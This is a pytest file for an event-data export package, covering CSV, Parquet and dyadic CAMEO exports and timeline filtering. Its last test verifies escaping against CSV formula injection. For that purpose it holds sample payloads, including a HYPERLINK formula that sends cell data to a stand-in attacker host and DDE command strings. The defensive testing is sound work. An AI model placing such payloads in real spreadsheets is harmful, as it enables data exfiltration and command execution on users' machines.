"""Exports: flat CSV/Parquet rows, the GDELT-style dyadic view with CAMEO roots from
the PLOVER↔CAMEO crosswalk, and the timeline table."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pytest
from rich.console import Console

from dateline.link.service import add_documents
from dateline.export import (DYAD_COLUMNS, FLAT_COLUMNS, cameo, dyads, quad_class, read_crosswalk,
                             shipped_crosswalk, write_events)
from dateline.link import link
from dateline.store import Store
from dateline.timeline import select, status_history, timeline
from test_link import corpus

CROSSWALK = Path(__file__).resolve().parents[2] / "shared" / "data" / "plover" / "CAMEO2PLOVER-2021.txt"


@pytest.fixture(scope="module")
def records():
    return link(corpus())[0]


def by_type(records, t):
    return next(r for r in records if r.type == t)


def test_csv_has_the_documented_columns_and_one_row_per_event(records):
    buf = io.StringIO()
    write_events(records, buf, "csv")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert list(rows[0]) == FLAT_COLUMNS and len(rows) == len(records)
    hijack = next(r for r in rows if r["type"] == "ASSAULT")
    assert (hijack["killed_min"], hijack["killed_max"], hijack["n_documents"]) == ("21", "31", "3")


def test_parquet_round_trips_with_typed_columns(records, tmp_path):
    path = tmp_path / "events.parquet"
    write_events(records, str(path), "parquet")
    rows = duckdb.sql(f"SELECT id, killed_min, killed_max, n_documents, status FROM '{path}' ORDER BY id").fetchall()
    assert len(rows) == len(records)
    hijack = next(r for r in rows if r[0] == by_type(records, "ASSAULT").id)
    assert hijack[1:4] == (21.0, 31.0, 3)  # numbers stay numbers for pandas and R


def test_parquet_to_a_binary_file_object(records):
    buf = io.BytesIO()
    write_events(records, buf, "parquet")
    assert buf.getvalue()[:4] == b"PAR1"


def test_jsonl_is_the_full_event_record(records):
    buf = io.StringIO()
    write_events(records, buf, "jsonl")
    first = json.loads(buf.getvalue().splitlines()[0])
    assert first["schema"] == "dateline/event@1" and "mentions" in first


def test_dyads_carry_cameo_codes_and_one_row_per_pair(records):
    meeting = by_type(records, "CONSULT")
    rows = dyads(meeting)
    # Netanyahu visits Trump; one report names Trump as co-actor, but Trump never faces himself.
    assert [(r["Actor1Name"], r["Actor2Name"]) for r in rows] == [("Benjamin Netanyahu", "Donald Trump")]
    assert all(r["EventRootCode"] == "04" and r["EventCode"] == "042" and r["QuadClass"] == 1 for r in rows)
    assert rows[0]["SQLDATE"] == "20250204" and rows[0]["IsRootEvent"] == 1
    assert set(rows[0]) == set(DYAD_COLUMNS)
    arrests = dyads(by_type(records, "COERCE"))
    assert arrests[0]["EventRootCode"] == "17" and arrests[0]["EventCode"] == "173"
    assert arrests[0]["Actor1CountryCode"] == "TUR" and arrests[0]["QuadClass"] == 4


def test_dyadic_view_leaves_out_events_not_reported_as_happened(records):
    planned = link([d for d in corpus() if d.id == "s4"])[0]
    buf = io.StringIO()
    write_events(planned, buf, "csv", view="dyads")
    assert len(buf.getvalue().strip().splitlines()) == 1  # header only
    buf = io.StringIO()
    write_events(planned, buf, "csv", view="dyads", include_unconfirmed=True)
    assert "planned" in buf.getvalue()


def test_unknown_mode_falls_back_to_the_types_root():
    assert cameo("ASSAULT", "no-such-mode") == ("18", "180")
    assert cameo("ASSAULT", "aerial")[0] == "19"
    assert cameo("ACCUSE", "investigate")[0] == "09" and cameo("ACCUSE", None)[0] == "11"
    assert [quad_class(x) for x in ("03", "07", "12", "18")] == [1, 2, 3, 4]


def test_user_crosswalk_in_the_published_format(tmp_path):
    path = tmp_path / "xwalk.txt"
    path.write_text("# mine\n17: COERCE\n170: COERCE, , # Coerce\n173: COERCE, arrest, legal # Arrest\n"
                    "191: COERCE, restrict, military # Blockade\n")
    table = read_crosswalk(path)
    assert table[("COERCE", "-")] == ("17", "170")
    assert table[("COERCE", "restrict")] == ("19", "191")
    assert cameo("COERCE", "arrest", table) == ("17", "173")


def test_shipped_table_agrees_with_the_published_crosswalk():
    """Every PLOVER type's CAMEO root in the shipped table is the crosswalk's majority root,
    and every mode the crosswalk names maps to a root the crosswalk gives that mode."""
    if not CROSSWALK.exists():
        pytest.skip(f"crosswalk not present at {CROSSWALK}")
    parsed, shipped = read_crosswalk(CROSSWALK), shipped_crosswalk()
    types = {t for t, _ in parsed}
    for t in types:
        assert shipped[(t, "-")][0] == parsed[(t, "-")][0], t
    roots_by_mode: dict = {}
    import re
    for line in CROSSWALK.read_text().splitlines():
        m = re.match(r"^(\d{3,4}):\s*([A-Z]+)\s*,\s*([^,#]*?)\s*(?:,|#|$)", line.strip())
        if m and m[3].strip():
            roots_by_mode.setdefault((m[2], m[3].strip()), set()).add(m[1][:2])
    for key, (root, _) in shipped.items():
        if key in roots_by_mode:
            assert root in roots_by_mode[key], key


def test_timeline_filters_by_actor_and_dates_and_shows_status_history(records, tmp_path):
    got = select(records, "netanyahu", "2025-02-01", "2025-02-28")
    assert [r.type for r in got] == ["CONSULT"]
    assert status_history(got[0]) == "planned 01-29 → happened 02-04"
    assert select(records, "netanyahu", "2025-03-01", None) == []
    assert {r.type for r in select(records, "PAK")} == {"ASSAULT", "AID"}
    db = tmp_path / "s.duckdb"
    with Store(db) as s:
        add_documents(s, corpus())
    console = Console(record=True, width=200)
    shown = timeline(db, "Turkish police", "2025-03-01", "2025-03-31", console=console)
    text = console.export_text()
    assert len(shown) == 1 and "COERCE / arrest" in text and "arrested 343" in text


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(records):
    """CSV formula injection: text cells starting =, +, -, @ get a leading
    apostrophe in both views; numbers (a negative longitude) stay numbers."""
    from dateline.records import EventRecord

    base = next(r for r in records if r.actors and r.mentions).to_dict()
    base["actors"][0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    base["recipients"] = [dict(base["actors"][0], name="+cmd|' /C calc'!A0")]
    base["mentions"][0]["evidence"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    base["location"] = {"name": "-2+3", "country": "USA", "lat": 38.9, "lon": -77.0, "precision": "site"}
    rec = EventRecord.from_dict(base)
    for view, cols in (("events", ("actor_names", "recipient_names", "evidence_text", "location")),
                       ("dyads", ("Actor1Name", "Actor2Name", "EvidenceText", "ActionGeo_FullName"))):
        buf = io.StringIO()
        write_events([rec], buf, "csv", view=view, include_unconfirmed=True)
        row = next(csv.DictReader(io.StringIO(buf.getvalue())))
        for col in cols:
            assert row[col][:1] == "'" and row[col][1:2] in "=+-@", (view, col, row[col])
        lon = row["lon"] if view == "events" else row["ActionGeo_Long"]
        assert lon == "-77.0"
